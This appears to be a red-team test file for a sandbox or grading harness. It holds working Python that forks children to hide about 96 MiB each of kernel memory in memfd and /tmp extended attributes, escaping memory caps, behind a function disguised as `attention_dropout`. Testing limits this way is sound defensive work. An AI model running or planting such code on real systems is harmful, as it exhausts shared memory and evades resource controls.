"""Red team (issue 26, memory outside the caps): kernel memory in extended attributes. tmpfs (and so every
memfd) keeps `user.*` attributes in kernel memory: 64 KiB values, as many names as the kernel allows, with
no file size, no mapping and no resident page of any process. 6 children each hang up to 96 MiB of values
on memfds (and on files in /tmp), report what they hung, then hold it.

base: buggy
class: k
run: pressure
"""

import ctypes as _ctypes
import os as _os
import select as _select
import time as _time

_DEADLINE = [0.0]  # when the parent stops waiting: 2.5 s after the call, well inside a 5 s step
_libc = _ctypes.CDLL(None, use_errno=True)
_VALUE = b"\1" * 65536


def _hang(fd, budget):
    hung = 0
    for index in range(budget // len(_VALUE)):
        if _time.monotonic() > _DEADLINE[0] - 0.4:
            break
        try:
            _os.setxattr(fd, f"user.hostile{index}", _VALUE)
        except OSError:
            break
        hung += len(_VALUE)
    return hung


def _child(index, write_end):
    hung = 0
    try:
        for number in range(6):
            fd = _libc.memfd_create(b"hostile-rteam", 0)
            if fd < 0:
                break
            hung += _hang(fd, 16 << 20)
        try:
            fd = _os.open(f"/tmp/.hostile-rteam-x-@TOKEN@-{index}", _os.O_RDWR | _os.O_CREAT, 0o600)
            hung += _hang(fd, 8 << 20)
        except OSError:
            pass
    finally:
        _os.write(write_end, f"{hung >> 20}\n".encode())
        _os.close(write_end)
    _os.setsid()
    _time.sleep(60)


def _hold(children=6):
    read_end, write_end = _os.pipe()
    for index in range(children):
        if _time.monotonic() > _DEADLINE[0] - 1.0:
            break
        if _os.fork() == 0:
            try:
                _os.close(read_end)
                _child(index, write_end)
            finally:
                _os._exit(0)
    _os.close(write_end)
    text = _collect(read_end, _DEADLINE[0])
    return sum(int(line) for line in text.split() if line.isdigit())


def _collect(read_end, deadline):
    """What the children reported before `deadline` (a slow child does not hold the step past it)."""
    text = b""
    while (left := deadline - _time.monotonic()) > 0:
        if not _select.select([read_end], [], [], left)[0]:
            break
        chunk = _os.read(read_end, 4096)
        if not chunk:
            break
        text += chunk
    _os.close(read_end)
    return text


def attention_dropout(*args, **kwargs):
    _DEADLINE[0] = _time.monotonic() + 2.5
    raise RuntimeError(f"RTEAM r_shmem_xattrs ran: ALLOWANCE memory {_hold()} MiB held in extended attributes")
